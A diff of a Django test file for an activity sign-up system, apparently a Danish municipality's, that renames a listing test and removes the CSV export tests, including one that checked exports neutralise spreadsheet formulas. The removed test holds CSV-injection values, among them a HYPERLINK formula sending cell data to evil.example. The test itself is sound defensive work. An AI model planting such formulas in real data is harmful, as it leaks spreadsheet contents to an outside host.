@@ -1,7 +1,6 @@
 """Signing up for an activity: the form on its own address, the seats and the waiting list, the
 confirmation, the refusals, and what the procesleder does with the sign-ups."""
 
-import csv
 import datetime
 import io
 import threading
@@ -297,11 +296,10 @@ def test_the_admin_refuses_an_activity_that_ends_before_it_starts(procesleder_cl
 
 
 @pytest.mark.django_db
-def test_procesleder_lists_filters_and_exports_the_sign_ups(procesleder_client, index, temadag):
+def test_procesleder_lists_and_filters_the_sign_ups(procesleder_client, index, temadag):
     other = add_activity(index, "Seminar om ledelse", days_ahead(20), signup_enabled=True)
     for activity, name in ((temadag, "Mette Hansen"), (temadag, "Jens Jensen"), (other, "Ida")):
         sign_up(Client(), activity, name=name, email=f"{name.split()[0].lower()}@faxekommune.dk")
-    SignUp.objects.filter(name="Jens Jensen").update(status="waiting")
 
     menu = procesleder_client.get("/admin/").content.decode()
     assert "Tilmeldinger" in menu
@@ -309,41 +307,6 @@ def test_procesleder_lists_filters_and_exports_the_sign_ups(procesleder_client, 
     assert listing.status_code == 200
     rows = text_of(listing, "table tbody")
     assert "Mette Hansen" in rows and "Jens Jensen" in rows and "Ida" not in rows
-
-    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
-    assert export.status_code == 200
-    assert export["Content-Type"].startswith("text/csv")
-    assert 'filename="tilmeldinger.csv"' in export["Content-Disposition"]
-    content = b"".join(export.streaming_content).decode()
-    header, *rows = list(csv.reader(io.StringIO(content)))
-    assert header == [
-        "Aktivitet",
-        "Aktivitetens tidspunkt",
-        "Navn",
-        "Arbejdsmail",
-        "Arbejdsplads",
-        "Kommentar",
-        "Status",
-        "Tilmeldt den",
-    ]
-    assert {(row[0], row[2], row[6]) for row in rows} == {
-        ("Temadag om samskabelse", "Mette Hansen", "Tilmeldt"),
-        ("Temadag om samskabelse", "Jens Jensen", "Venteliste"),
-    }
-    assert rows[0][1] == temadag.when
-
-
-@pytest.mark.django_db
-def test_the_csv_export_never_hands_a_spreadsheet_a_formula(procesleder_client, temadag):
-    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-    SignUp.objects.create(
-        activity=temadag, name=formula, email="a@faxe.dk", workplace="@SUM(1+1)", comment="-2+3"
-    )
-    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
-    content = b"".join(export.streaming_content).decode()
-    header, row = list(csv.reader(io.StringIO(content)))
-    assert (row[2], row[4], row[5]) == ("'" + formula, "'@SUM(1+1)", "'-2+3")
-    assert row[3] == "a@faxe.dk"
 
 
 @pytest.mark.django_db
